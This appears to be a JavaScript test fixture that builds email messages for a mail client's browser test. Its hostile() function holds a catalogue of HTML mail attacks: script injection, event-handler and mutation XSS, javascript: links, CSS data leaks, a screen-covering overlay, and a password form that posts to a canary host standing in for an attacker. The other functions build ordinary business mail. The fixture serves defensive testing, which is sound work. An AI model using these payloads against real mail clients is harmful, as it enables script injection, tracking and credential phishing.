// Mail that the test sends itself.
const crlf = (lines) => Buffer.from(lines.join('\r\n') + '\r\n', 'utf8');

// hostile does everything that a mail could try in order to run, load or fake
// something. Every address in it is the canary's.
export function hostile({ to, canary }) {
  return crlf([
    'From: "Bank" <service@bank.example>',
    `To: <${to}>`,
    'Subject: Hostile mail for the browser test',
    `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`,
    'Message-ID: <hostile@bank.example>',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<html><head>',
    `<base href="${canary}/base/">`,
    `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
    `<link rel="stylesheet" href="${canary}/style.css"><link rel="prefetch" href="${canary}/prefetch"><link rel="dns-prefetch" href="${canary}">`,
    `<style>@import url("${canary}/import.css"); @font-face{font-family:f;src:url(${canary}/font)} body{font-family:f;background:url(${canary}/background)}`,
    `#cover{position:fixed;inset:0;background:url(${canary}/cover);z-index:99999} input[value^=a]{background:url(${canary}/leak)}</style>`,
    '<script>top.owned = 1; window.owned = 1; document.title = "owned"</script>',
    `<script src="${canary}/script.js"></script>`,
    '</head><body onload="window.owned=2; top.document.title=\'owned\'">',
    '<p>Dear customer, this paragraph is harmless.</p>',
    `<img src="${canary}/pixel.png" alt="remote picture"><img src="x" onerror="top.owned=3">`,
    `<img srcset="${canary}/srcset.png 2x" src="${canary}/src.png"><picture><source srcset="${canary}/source.png"></picture>`,
    `<table background="${canary}/table.png"><tr><td style="background-image:url('${canary}/cell.png')">cell</td></tr></table>`,
    `<div style="background:u\\72l(${canary}/escaped.png);behavior:url(${canary}/b)">escaped</div>`,
    `<svg onload="top.owned=4"><script>top.owned=5</script><image href="${canary}/svg.png" xlink:href="${canary}/svg2.png"/><use href="${canary}/use.svg#a"/></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="top.owned=6"></style></mglyph></table></mtext></math>`,
    `<iframe src="${canary}/frame"></iframe><iframe srcdoc="<script>top.owned=7</script>"></iframe>`,
    `<object data="${canary}/object"></object><applet code="${canary}/applet"></applet>`,
    `<video autoplay poster="${canary}/poster.png" src="${canary}/video.mp4"></video><audio autoplay src="${canary}/audio.mp3"></audio>`,
    `<form action="${canary}/form" method="post"><input name="password" value="abc" autofocus onfocus="top.owned=8"><button>Confirm your password</button></form>`,
    `<form action="/api/v1/session" method="post"><button formaction="${canary}/formaction">Log in again</button></form>`,
    '<a href="javascript:top.owned=9">script link</a> <a href="data:text/html,<script>top.owned=10</script>">data link</a>',
    `<a href="${canary}/link" ping="${canary}/ping">real link</a>`,
    '<div id="cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:2147483647">COVER</div>',
    '<details open ontoggle="top.owned=11"><summary>more</summary></details><marquee onstart="top.owned=12">x</marquee>',
    `<embed src="${canary}/embed">`,
    '</body></html>',
  ]);
}

// exact has what a store likes to change: bare dots, trailing spaces, tabs, 8-bit
// text, an odd header order and no final text after the boundary.
export function exact({ to, mark }) {
  return crlf([
    'X-First:   odd   spacing  ',
    `To: <${to}>`,
    'MIME-Version: 1.0',
    `Subject: Exact copy ${mark}`,
    'From: Grace Oduya <grace@partners.example>',
    `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`,
    `Message-ID: <${mark}@partners.example>`,
    'Content-Type: multipart/mixed; boundary="=_b"',
    '',
    'preamble with trailing spaces   ',
    '--=_b',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    `Grüße aus Köln, das Kennwort lautet ${mark}.`,
    '.a line that starts with a dot',
    '..and one with two',
    'tab\there, spaces at the end   ',
    '',
    '--=_b',
    'Content-Type: application/octet-stream; name="proof.bin"',
    'Content-Disposition: attachment; filename="proof.bin"',
    'Content-Transfer-Encoding: base64',
    '',
    attachment.toString('base64'),
    '--=_b--',
    '',
    'epilogue',
  ]);
}

const people = ['Anna Schmidt <anna@partners.example>', 'Jörg Müller <joerg@partners.example>', 'Grace Oduya <grace@partners.example>', 'faktura@shop.example'];
const day = 86_400_000;

// ordinary are n unremarkable messages of the last years; every fourth has an attachment.
export function ordinary({ to, n }) {
  return Array.from({ length: n }, (_, i) => {
    const head = [
      `From: ${people[i % people.length]}`,
      `To: <${to}>`,
      `Subject: Weekly report ${i + 1}`,
      `Date: ${new Date(Date.now() - (i + 1) * 9 * day).toUTCString().replace('GMT', '+0000')}`,
      `Message-ID: <report-${i + 1}@partners.example>`,
      'MIME-Version: 1.0',
    ];
    const text = ['', `Dear colleagues, this is report number ${i + 1}. Everything went as planned.`];
    if (i % 4 !== 0) {
      return crlf([...head, 'Content-Type: text/plain; charset=utf-8', ...text]);
    }
    return crlf([
      ...head, 'Content-Type: multipart/mixed; boundary=b', '', '--b', 'Content-Type: text/plain', ...text,
      '--b', 'Content-Type: text/csv; name=figures.csv', 'Content-Disposition: attachment; filename=figures.csv', '', `week,${i + 1}`, '--b--',
    ]);
  });
}

// attachment is what exact carries.
export const attachment = Buffer.from(Array.from({ length: 48 }, (_, i) => (i * 37) % 256));

const everydayTexts = [
  ['Jörg Hansen <joerg.hansen@holzhandel.example>', 'Lieferung Eichenplatten am Donnerstag', 'Guten Tag, die Platten für die Rechnung 2026-0412 kommen am Donnerstag gegen 9 Uhr.'],
  ['Grace Oduya <grace@oduya-interiors.example>', 'Re: Quote for the reading room', 'Dear Anna, the quote looks good. Could you add twelve more chairs before we sign?'],
  ['Stadtwerke Nordlicht <rechnung@stadtwerke.example>', 'Ihre Rechnung für Oktober', 'Sehr geehrte Kundin, anbei erhalten Sie die Rechnung über 1.428,00 Euro.'],
  ['Bernd Jürgensen <bernd.juergensen@nordlicht.example>', 'Protokoll der Besprechung vom Montag', 'Hallo Anna, im Anhang das Protokoll. Offen ist noch der Termin mit dem Prüfer.'],
  ['Carla Rossi <carla.rossi@nordlicht.example>', 'Jahresabschluss: fehlende Belege', 'Liebe Anna, mir fehlen noch drei Belege aus dem März. Hast du sie im Archiv?'],
  ['Messe Kiel <aussteller@messe.example>', 'Standplan und Aufbauzeiten', 'Der Aufbau beginnt am Freitag um 7 Uhr. Den Standplan finden Sie im Anhang.'],
];

// everyday are the messages that the pictures show beside the demonstration's own.
export function everyday({ to }) {
  const plain = everydayTexts.map(([from, subject, text], i) =>
    crlf([
      `From: ${from}`, `To: Anna Petersen <${to}>`, `Subject: ${subject}`, 'MIME-Version: 1.0', `Message-ID: <everyday-${i}@nordlicht.example>`,
      `Date: ${new Date(Date.now() - (i * i + 1) * day).toUTCString().replace('GMT', '+0000')}`, 'Content-Type: text/plain; charset=utf-8', '', text,
    ]),
  );
  const html = crlf([
    'From: Werkstatt Lindqvist <rechnung@lindqvist.example>', `To: Anna Petersen <${to}>`, 'Cc: Carla Rossi <carla.rossi@nordlicht.example>',
    'Subject: Rechnung 2026-0417 – Restaurierung Schreibtisch', 'MIME-Version: 1.0', 'Message-ID: <everyday-invoice@lindqvist.example>',
    `Date: ${new Date(Date.now() - day / 24).toUTCString().replace('GMT', '+0000')}`, 'Content-Type: multipart/mixed; boundary=e', '',
    '--e', 'Content-Type: text/html; charset=utf-8', '',
    '<h2 style="color:#0b5b5c">Rechnung 2026-0417</h2><p>Sehr geehrte Frau Petersen,</p><p>für die Restaurierung des Schreibtischs erlauben wir uns zu berechnen:</p>',
    '<table cellpadding="6" style="border-collapse:collapse"><tr><td>Furnier erneuert</td><td align="right">640,00 €</td></tr><tr><td>Schellackpolitur</td><td align="right">380,00 €</td></tr><tr><td><b>Summe</b></td><td align="right"><b>1.020,00 €</b></td></tr></table>',
    '<p>Mit freundlichen Grüßen<br>Maja Lindqvist</p><img src="https://lindqvist.example/logo.png" alt="" width="1">',
    '--e', 'Content-Type: application/pdf; name="Rechnung-2026-0417.pdf"', 'Content-Disposition: attachment; filename="Rechnung-2026-0417.pdf"', 'Content-Transfer-Encoding: base64', '',
    Buffer.from('%PDF-1.4\n% an empty page\n'.repeat(900)).toString('base64').replace(/.{76}/g, '$&\r\n'),
    '--e--',
  ]);
  return [...plain, html];
}

// report is a journal report of Microsoft 365 about a message with a blind copy and
// a recipient who is on a list.
export function report({ sender, member, list, blind, subject, broken }) {
  const id = `<${subject.replace(/\W/gu, '')}@firma.example>`;
  return crlf([
    'From: Microsoft Outlook <journal@firma.example>', ...(broken ? [`To: <${sender}>`] : []), `Subject: ${subject}`, 'MIME-Version: 1.0', `Message-ID: <report-${id.slice(1)}`,
    'X-MS-PublicTrafficType: Email', 'x-ms-journal-report:', 'Content-Type: multipart/mixed; boundary="j"', '',
    '--j', 'Content-Type: text/plain; charset="us-ascii"', 'Content-Transfer-Encoding: 7bit', '',
    `Sender: ${sender}`, `Subject: ${subject}`, `Message-ID: ${id}`, `To: ${member}, Expanded: ${list}`, `Bcc: ${blind}`, ...(broken ? ['Scanned and found clean'] : []), '',
    '--j', 'Content-Type: message/rfc822', '',
    `From: <${sender}>`, `To: <${list}>`, `Subject: ${subject}`, `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`, `Message-ID: ${id}`, '', 'The report knows more than this.', '', '--j--',
  ]);
}

// proven are three messages as reports have to cope with: a subject that is longer than
// a line, several scripts, attachments.
export function proven({ to }) {
  const subjects = [
    'Angebot zur Probe: Instandsetzung der Heizungsanlage im Erdgeschoss und im ersten Obergeschoss, einschließlich aller Nebenarbeiten, '
      + 'der Entsorgung der alten Kessel und der Abnahme durch den Schornsteinfeger, gültig bis zum Ende des Monats',
    'Angebot zur Probe: Πρόταση, предложение, 見積書, עברית',
    'Angebot zur Probe: mit Anhang 📎',
  ];
  return subjects.map((subject, i) => crlf([
    `From: =?UTF-8?B?${Buffer.from('Jörg Groß').toString('base64')}?= <joerg@partners.example>`,
    `To: <${to}>`,
    `Subject: =?UTF-8?B?${Buffer.from(subject).toString('base64')}?=`,
    `Date: ${new Date(Date.now() - i * 60_000).toUTCString().replace('GMT', '+0000')}`,
    `Message-ID: <proven-${i}@partners.example>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="=_p"',
    '',
    '--=_p',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Guten Tag, anbei unser Angebot.',
    '--=_p',
    'Content-Type: text/csv; name="angebot.csv"',
    'Content-Disposition: attachment; filename="angebot.csv"',
    '',
    'Stunden;Preis',
    '12;1.040,00',
    '--=_p--',
  ]));
}
